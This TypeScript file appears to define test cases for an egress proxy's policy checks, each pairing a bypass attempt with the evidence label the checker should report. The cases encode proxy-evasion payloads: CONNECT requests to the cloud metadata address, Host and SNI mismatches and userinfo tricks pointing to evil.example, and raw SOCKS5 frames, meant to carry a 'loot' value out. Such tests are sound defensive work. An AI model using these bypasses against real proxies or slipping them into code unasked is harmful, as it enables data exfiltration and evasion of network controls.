import type { Attack } from '../attack.ts';
import { ALLOWED, at, get, hello, network, PUBLIC } from '../network-arms.ts';
import { CONNECT, RAW, SOCKS } from '../network-scripts.ts';
import { LOOT } from '../network-sinks.ts';

const tunnel = (place: string, bytes: string) => JSON.stringify([place, bytes]);

export const attacks: readonly Attack[] = network([
  {
    id: 'K5-metadata-proxy',
    title: 'the metadata service through the proxy',
    script: CONNECT,
    extra: tunnel('169.254.169.254:80', get('x', `/${LOOT}`)),
    inside: at('127.0.0.1', 3128),
    evidence: 'address-literal',
  },
  {
    id: 'K5-fronting-proxy',
    title: 'the same through CONNECT',
    script: CONNECT,
    extra: tunnel(`${ALLOWED}:443`, hello('evil.example')),
    allow: [`${ALLOWED}:443`],
    inside: at('127.0.0.1', 3128),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-connect-address',
    title: 'CONNECT to an address',
    script: CONNECT,
    extra: tunnel(`${PUBLIC}:443`, hello('x')),
    inside: at('127.0.0.1', 3128),
    evidence: 'address-literal',
  },
  {
    id: 'K5-connect-port',
    title: 'CONNECT to a port that is not listed',
    script: CONNECT,
    extra: tunnel(`${ALLOWED}:22`, LOOT),
    allow: [`${ALLOWED}:443`],
    inside: at('127.0.0.1', 3128),
    evidence: 'port-not-listed',
  },
  {
    id: 'K5-connect-loopback',
    title: 'CONNECT to a service on the loopback of the host',
    script: CONNECT,
    extra: tunnel('localhost:80', get('localhost', `/${LOOT}`)),
    inside: at('127.0.0.1', 3128),
    evidence: 'not-listed',
  },
  {
    id: 'K5-connect-userinfo',
    title: 'CONNECT with user information before the host',
    script: CONNECT,
    extra: tunnel(`${ALLOWED}@evil.example:443`, hello('x')),
    allow: [`${ALLOWED}:443`],
    inside: at('127.0.0.1', 3128),
    evidence: 'malformed-request',
  },
  {
    id: 'K5-proxy-absolute',
    title: 'a proxied request whose Host names another',
    script: RAW,
    extra: `GET http://${ALLOWED}/${LOOT} HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
    allow: [`${ALLOWED}:80`],
    inside: at('127.0.0.1', 3128),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-socks-address',
    title: 'SOCKS5 to an address',
    script: SOCKS,
    extra: JSON.stringify(['05010001cb00710a01bb', hello('x')]),
    inside: at('127.0.0.1', 1080),
    evidence: 'address-literal',
  },
  {
    id: 'K5-socks-name',
    title: 'SOCKS5 to a host that is not listed',
    script: SOCKS,
    extra: JSON.stringify([`050100030c${Buffer.from('evil.example').toString('hex')}01bb`, hello('x')]),
    inside: at('127.0.0.1', 1080),
    evidence: 'not-listed',
  },
  {
    id: 'K5-socks-udp',
    title: 'SOCKS5 relay of datagrams',
    script: SOCKS,
    extra: JSON.stringify([`050300030f${Buffer.from(ALLOWED).toString('hex')}01bb`, LOOT]),
    allow: [`${ALLOWED}:443`],
    inside: at('127.0.0.1', 1080),
    evidence: 'not-supported',
  },
]);
